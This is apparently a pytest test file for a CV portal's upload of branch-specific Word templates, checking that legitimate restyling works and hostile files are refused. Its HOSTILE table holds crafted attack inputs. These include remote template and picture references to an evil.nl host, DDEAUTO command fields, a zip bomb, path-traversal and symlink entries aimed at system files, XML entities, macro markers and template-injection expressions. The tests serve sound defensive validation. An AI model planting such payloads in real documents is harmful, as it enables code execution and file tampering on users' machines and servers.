"""A branch's own Word template (R46): restyled in Word, refused when it is more than that."""

import io
import secrets
import sys
import zipfile

import pytest

from portal.employment.cvs.actions import word, word_check
from portal.employment.cvs.models import CVTemplate, Layout
from portal.files.models import StoredFile
from tests.employment.cvs.texts import text_of_docx
from tests.factories import make_branch, make_person

OURS = word.our_template(Layout.CLASSIC)


def with_parts(parts: dict, without: str = "") -> bytes:
    """Our template with these members added or replaced."""
    out = io.BytesIO()
    packed = zipfile.ZIP_DEFLATED
    with zipfile.ZipFile(io.BytesIO(OURS)) as old, zipfile.ZipFile(out, "w", packed) as new:
        for name in old.namelist():
            if name not in parts and name != without:
                new.writestr(name, old.read(name))
        for name, content in parts.items():
            new.writestr(name, content)
    return out.getvalue()


def restyled(old: str, new: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(OURS)) as archive:
        document = archive.read("word/document.xml").decode()
    assert old in document
    return with_parts({"word/document.xml": document.replace(old, new)})


def send(browser, content: bytes, name="opmaak.docx"):
    return browser.post("/cvs/template", data={"file": (io.BytesIO(content), name)})


def test_a_branch_sets_its_cvs_in_its_own_layout(client_for, coached, version, branch):
    """C2: from a Word template that the branch can restyle."""
    browser = client_for(coached[1])
    own = restyled("{{ heading }}", "Stichting De Brug: {{ heading }}")
    assert send(browser, own).status_code == 303

    file = browser.get(f"/cvs/versions/{version.id}/file?format=docx").data
    assert "Stichting De Brug: Zeyneb Barwari" in text_of_docx(file)
    assert browser.get("/cvs/template/file?layout=own").data == own
    browser.post("/cvs/template/drop")
    file = browser.get(f"/cvs/versions/{version.id}/file?format=docx").data
    assert "Stichting" not in text_of_docx(file)
    assert not StoredFile.select().exists()


def test_a_second_template_takes_the_place_of_the_first(client_for, coached):
    browser = client_for(coached[1])
    for word_ in ("Een", "Twee"):
        send(browser, restyled("{{ heading }}", f"{word_} {{{{ heading }}}}"))
    assert (CVTemplate.select().count(), StoredFile.select().count()) == (1, 1)


def test_another_branch_keeps_its_own_layout(client_for, coached):
    send(client_for(coached[1]), OURS)
    elsewhere = client_for(make_person(make_branch(), "job_coach"))
    assert elsewhere.get("/cvs/template/file?layout=own").status_code == 404


RELS = "word/_rels/document.xml.rels"
EXTERNAL = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://x/attachedTemplate" Target="http://evil.nl/t.dotm"'
    ' TargetMode="External"/></Relationships>'
)
BOMB = with_parts({"word/media/a.xml": b"0" * 2**26})
ENTITY = '<!DOCTYPE a [<!ENTITY b "c">]><w:document/>'
MACROS = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default'
    ' Extension="xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
    "</Types>"
)


def with_field(*pieces: str) -> tuple[str, str]:
    """What to replace, and by what: a field that Word works out when the file is opened."""
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    told = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    field = f"<w:p>{mark.format('begin')}{told}{mark.format('end')}</w:p>"
    return "<w:body>", f"<w:body>{field}"


HOSTILE = {
    "nothing": (b"", "leeg"),
    "text": (b"hello", "geen Word-bestand"),
    "an old Word file": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"0" * 600, "geen Word-bestand"),
    "a picture": (b"\x89PNG\r\n\x1a\n" + b"0" * 100, "geen Word-bestand"),
    "another ZIP": (with_parts({}, without="word/document.xml"), "geen Word-bestand"),
    "a broken ZIP": (OURS[:4000], "kapot"),
    "a broken document": (with_parts({"word/document.xml": "<w:document"}), "kapot"),
    "macros": (with_parts({"word/vbaProject.bin": b"x"}), "macro"),
    "a bomb": (BOMB, "te groot"),
    "a way out": (with_parts({"../../etc/cron.d/x": "x"}), "vreemd"),
    "a root": (with_parts({"/etc/passwd": "x"}), "vreemd"),
    "a way out of Windows": (with_parts({"..\\..\\x": "x"}), "vreemd"),
    "a remote template": (with_parts({RELS: EXTERNAL}), "verwijst naar buiten"),
    "an object": (with_parts({"word/embeddings/oleObject1.bin": b"x"}), "ander bestand"),
    "entities": (with_parts({"word/document.xml": ENTITY}), "vreemd"),
    "an unknown field": (restyled("{{ heading }}", "{{ salary }}"), "veld in dit bestand"),
    "a broken field": (restyled("{{ heading }}", "{{ heading | nosuch }}"), "veld in dit bestand"),
    "a way into Python": (
        restyled("{{ heading }}", "{{ heading.__class__.__mro__ }}"),
        "veld in dit bestand",
    ),
    "a multiplication": (restyled("{{ heading }}", "{{ 'a' * 1000000000 }}"), "veld in dit"),
    "a call": (restyled("{{ heading }}", "{{ heading.upper() }}"), "veld in dit bestand"),
    "a sum": (restyled("{{ heading }}", "{{ heading ~ heading }}"), "veld in dit bestand"),
    "an item": (restyled("{{ heading }}", "{{ heading[0] }}"), "veld in dit bestand"),
    "a remote template in UTF-16": (
        with_parts({RELS: EXTERNAL.encode("utf-16")}),
        "verwijst naar buiten",
    ),
    "an address outside by an entity": (
        with_parts({RELS: EXTERNAL.replace('"External"', '"Exter&#110;al"')}),
        "verwijst naar buiten",
    ),
    "entities in UTF-16": (
        with_parts({"word/document.xml": ENTITY.encode("utf-16")}),
        "vreemd",
    ),
    "a template of its own": (
        with_parts({RELS: EXTERNAL.replace(' TargetMode="External"', "")}),
        "ander bestand",
    ),
    "a command": (restyled(*with_field("DDEAUTO c:\\\\windows\\\\calc.exe")), "verwijst naar"),
    "a command in pieces": (restyled(*with_field("DD", "EAUTO calc")), "verwijst naar"),
    "a picture from elsewhere": (
        restyled(*with_field('INCLUDEPICTURE "http://evil.nl/x.png"')),
        "verwijst naar",
    ),
    "a simple field": (
        restyled("<w:body>", '<w:body><w:p><w:fldSimple w:instr="LINK x"/></w:p>'),
        "verwijst naar",
    ),
    "macros by another name": (
        with_parts({"[Content_Types].xml": MACROS}),
        "macro",
    ),
    "a range": (restyled("{{ heading }}", "{{ range(10) }}"), "veld in dit bestand"),
}


@pytest.mark.parametrize("what", HOSTILE)
def test_what_is_no_plain_template_is_refused_with_its_reason(client_for, coached, what):
    """R46, bad input: a template that is no Word file. Nothing is kept."""
    content, reason = HOSTILE[what]
    answer = send(client_for(coached[1]), content)

    assert answer.status_code == 422
    assert reason in answer.text
    assert not CVTemplate.select().exists()
    assert not StoredFile.select().exists()


def test_the_number_of_the_page_may_stand_in_a_template(client_for, coached):
    assert send(client_for(coached[1]), restyled(*with_field(" PAGE "))).status_code == 303


@pytest.mark.skipif(sys.platform != "linux", reason="not every system has these limits")
def test_a_template_that_grows_without_end_ends_a_process_of_its_own(client_for, coached):
    """Ten loops in each other over the letters of a name are millions of letters."""
    loops = "".join(f"{{%p for a{n} in heading %}}" for n in range(10))
    ends = "{%p endfor %}" * 10
    answer = send(
        client_for(coached[1]),
        restyled(
            "<w:body>",
            "<w:body>"
            + "".join(f"<w:p><w:r><w:t>{t}</w:t></w:r></w:p>" for t in (loops, "{{ a0 }}", ends)),
        ),
    )
    assert answer.status_code == 422


def test_a_symlink_inside_is_refused(client_for, coached):
    link = zipfile.ZipInfo("word/media/link")
    link.external_attr = 0o120777 << 16
    out = io.BytesIO(OURS)
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr(link, "/etc/passwd")
    assert "vreemd" in send(client_for(coached[1]), out.getvalue()).text


def test_no_file_chosen_is_said_by_the_field(client_for, coached):
    answer = client_for(coached[1]).post("/cvs/template", data={})
    assert answer.status_code == 422
    assert "Kies eerst een bestand" in answer.text


def test_a_file_that_says_it_has_macros_or_is_too_large_is_refused():
    """R46."""
    with zipfile.ZipFile(io.BytesIO(OURS)) as archive:
        types = archive.read("[Content_Types].xml").decode()
    macros = types.replace("document.main+xml", "document.macroEnabled.main+xml")
    assert macros != types

    many = 2**20 + 7  # bytes, which the listing says are a thousand
    large = with_parts({"word/media/a.xml": secrets.token_bytes(many)})

    for content, reason in {
        with_parts({"[Content_Types].xml": macros}): "macro",
        large.replace(many.to_bytes(4, "little"), (1000).to_bytes(4, "little")): "damaged",
        b"PK\x03\x04" + bytes(word_check.MOST_MEGABYTES * 2**20): "bytes",
        b"": "empty",
    }.items():
        with pytest.raises(word_check.NoTemplate, match=reason):
            word.checked(content, {})
